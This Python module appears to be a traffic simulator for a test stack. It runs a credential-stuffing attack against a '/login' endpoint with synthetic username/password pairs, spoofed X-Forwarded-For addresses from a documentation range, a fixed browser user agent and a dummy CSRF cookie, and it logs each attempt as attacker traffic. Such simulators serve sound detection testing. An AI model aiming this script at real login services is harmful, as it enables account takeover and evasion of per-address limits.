"""Credential stuffing: a list of leaked pairs is tried from many addresses, by one program."""

import asyncio
import random
from dataclasses import dataclass

from aiohttp import ClientError, ClientSession, DummyCookieJar

from stack.attempts import Attempts, now
from stack.people import Person

WORDS = "shadow tiger sunny maple rocket pepper winter falcon panda storm amber lucky"
AGENT = "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:54.0) Gecko/20100101 Firefox/54.0"


@dataclass
class Stuffing:
    base: str
    crowd: list[Person]
    attempts: Attempts
    dice: random.Random

    def pair(self) -> tuple[str, str]:
        """A leaked pair: mostly of somebody who has no account here."""
        word = f"{self.dice.choice(WORDS.split())}{self.dice.randrange(100)}"
        if self.dice.random() < 0.15:
            return self.dice.choice(self.crowd).name, word
        return f"{self.dice.choice(WORDS.split())}{self.dice.randrange(9999)}@mail.example", word

    async def run(self, seconds: float, per_second: float) -> None:
        ends = now() + seconds
        addresses = [f"203.0.113.{n}" for n in self.dice.sample(range(1, 255), 60)]
        async with ClientSession(cookie_jar=DummyCookieJar()) as calls, asyncio.TaskGroup() as all_:
            while now() < ends:
                all_.create_task(self.one(calls, self.dice.choice(addresses)))
                await asyncio.sleep(self.dice.expovariate(per_second))

    async def one(self, calls: ClientSession, address: str) -> None:
        user, word = self.pair()
        heads = {"User-Agent": AGENT, "X-Forwarded-For": address, "Cookie": "csrf=1"}
        begun, form = now(), {"user": user, "password": word}
        try:
            async with calls.post(f"{self.base}/login", data=form, headers=heads) as got:
                error = "" if got.status < 400 else "refused"
        except (ClientError, TimeoutError) as fault:
            error = type(fault).__name__
        self.attempts.note(begun, "stuffing", "attacker", user, error)
